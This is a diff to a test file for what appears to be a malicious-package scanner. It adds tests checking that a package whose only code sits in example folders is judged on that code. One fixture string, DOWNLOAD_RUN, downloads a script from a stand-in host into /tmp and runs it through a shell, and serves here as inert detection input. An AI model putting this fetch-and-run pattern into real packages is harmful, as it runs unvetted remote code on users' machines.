@@ -1,5 +1,6 @@
 """Rules 25: a raw IP address in a setup script is a sink only where the script may connect
-to something (a four-part version such as ``1.0.0.1`` reads as an address too).
+to something (a four-part version such as ``1.0.0.1`` reads as an address too). Rules 26: a
+package whose only code lies in test or example folders installs that code, and it is judged.
 
 The sources below are inert text handed to the scanner; nothing runs them.
 """
@@ -39,3 +40,41 @@ def test_a_version_that_reads_as_an_address_is_no_sink() -> None:
 )
 def test_an_address_beside_a_connection_or_a_process_is_a_sink(body: str) -> None:
     assert "exfil-sink" in _setup(body)
+
+
+#: A downloaded script saved and run: held wherever a package's modules are judged.
+DOWNLOAD_RUN = (
+    "import subprocess, urllib.request\n"
+    "def fetch():\n"
+    "    urllib.request.urlretrieve('https://cdn.example.net/p.py', '/tmp/p.py')\n"
+    "    subprocess.call('python3 /tmp/p.py', shell=True)\n"
+)
+
+
+def _package(**modules: str) -> tuple[dict[str, float], bool]:
+    files = {
+        "setup.py": "from setuptools import setup, find_packages\nsetup(name='demo', packages=find_packages('src'))\n",
+        "PKG-INFO": pkg_info("demo"),
+        "src/demo/__init__.py": "",
+        **modules,
+    }
+    return judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
+
+
+def test_a_package_of_nothing_but_examples_is_judged_on_them() -> None:
+    rules, held = _package(
+        **{"src/demo/example/__init__.py": "", "src/demo/example/run.py": DOWNLOAD_RUN}
+    )
+    assert "drop-run" in rules
+    assert held
+
+
+def test_examples_beside_the_package_own_code_are_not_judged() -> None:
+    rules, held = _package(
+        **{
+            "src/demo/core.py": "def add(a, b):\n    return a + b\n",
+            "src/demo/example/run.py": DOWNLOAD_RUN,
+        }
+    )
+    assert not {"drop-run", "download-run"} & set(rules)
+    assert not held
